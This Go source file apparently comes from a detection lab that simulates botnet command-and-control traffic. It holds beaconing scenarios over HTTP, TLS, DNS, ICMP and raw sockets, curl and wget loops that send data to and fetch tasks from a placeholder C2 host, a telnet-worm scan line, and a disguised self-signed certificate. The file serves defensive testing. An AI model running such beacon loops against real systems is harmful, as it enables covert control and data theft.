package lab

import (
	"context"
	"fmt"
	"time"

	"firetower/internal/attack"
)

// otherBots: more ways in which an implant talks to its controller, and what else
// bots do.
func otherBots() []Scenario {
	some := family{class: attack.Bot, limit: 90 * time.Second, play: callHome}
	long := some.within(210 * time.Second)
	return []Scenario{
		some.row("implant-json", "IMPLANT json C2:HTTP GAP JITTER 85"),
		some.row("implant-form", "IMPLANT form C2:HTTP GAP JITTER 85"),
		some.row("implant-cookie", "IMPLANT cookie C2:HTTP GAP JITTER 85"),
		some.row("implant-json-tls", "IMPLANT jsons C2:TLS GAP JITTER 85"),
		some.row("implant-cookie-tls", "IMPLANT cookies C2:TLS GAP JITTER 85"),
		long.row("implant-rare-tls", "IMPLANT cookies C2:TLS RARE JITTER 205"),
		long.row("implant-rare", "IMPLANT form C2:HTTP RARE JITTER 205"),
		some.row("long-poll", "IMPLANT poll C2:HTTP 0.5 0.5 85"),
		some.row("long-poll-tls", "IMPLANT polls C2:TLS 0.5 0.5 85"),
		some.row("socket-channel", "IMPLANT socket C2:HTTP GAP JITTER 85"),
		some.row("bare-channel", "IMPLANT tcp C2:BARE GAP JITTER 85"),
		some.row("udp-heartbeat", "IMPLANT udp C2:DATAGRAM GAP JITTER 85"),
		some.row("icmp-channel", "IMPLANT icmp C2 GAP JITTER 85"),
		some.row("dns-names", "IMPLANT names DNS GAP JITTER 85"),
		some.row("dns-txt", "IMPLANT txt DNS GAP JITTER 85"),
		some.row("dns-cname", "IMPLANT cname DNS GAP JITTER 85"),
		some.row("made-up-names", "IMPLANT made-up DNS 6 JITTER 80"),
		some.row("telnet-worm", "IMPLANT telnet 203.0.113.1 0.05 0.5 30 & IMPLANT tcp C2:BARE GAP JITTER 80; wait", attack.PortScan),
		some.row("udp-swarm", "IMPLANT swarm C2:16471 0.5 0.5 60"),
		some.row("dead-controller", "IMPLANT jsons C2:4443 GAP JITTER 85"),
		some.row("curl-json", "while :; do curl -s -k -o /dev/null -H 'Content-Type: application/json' -d '{\"id\":\"7f3a\",\"r\":\"b2s=\"}' https://C2:TLS/submit; sleep GAP; done"),
		some.row("wget-tasks", "while :; do wget -q -O - http://C2:HTTP/tasks/$(hostname) | head -c 200; sleep GAP; done"),
	}
}

func callHome(ctx context.Context, r *Run, line string) error {
	c2, err := r.host(ctx, "controller", false)
	if err != nil {
		return err
	}
	bot := r.People[r.IntN(len(r.People))]
	r.Truth.Attackers = append(r.Truth.Attackers, bot.Addr)
	r.against(c2)
	ports := []string{r.pick("80", "8080", "8888", "5000"), r.pick("443", "8443", "4433"), r.pick("4782", "6606", "7707", "1604"), r.pick("9999", "48101", "3478")}
	if _, err := c2.script("servers/controller.py"); err != nil {
		return err
	}
	c2.Shell(ctx, "openssl req -x509 -newkey rsa:2048 -nodes -days 90 -subj '/C=US/O=Cloud Services/CN=%s' -keyout key.pem -out cert.pem", r.pick("updates.softcdn.example", "localhost", "example.com"))
	if err := c2.Serve("/usr/bin/python3", append([]string{c2.Dir + "/controller.py"}, append(ports, c2.Dir+"/cert.pem", c2.Dir+"/key.pem")...)...); err != nil {
		return err
	}
	pause(ctx, time.Second)
	program, err := bot.script(scripts["IMPLANT"])
	if err != nil {
		return err
	}
	line = replace(line, "IMPLANT", program, "C2", c2.Addr.String(), "DNS", r.DNS.Addr.String(), "HTTP", ports[0], "TLS", ports[1], "BARE", ports[2], "DATAGRAM", ports[3],
		"GAP", fmt.Sprint(r.between(3, 9)), "RARE", fmt.Sprint(r.between(15, 30)), "JITTER", fmt.Sprintf("%.2f", 0.5*r.Float64()))
	r.play(ctx, bot, "%s", line)
	return nil
}
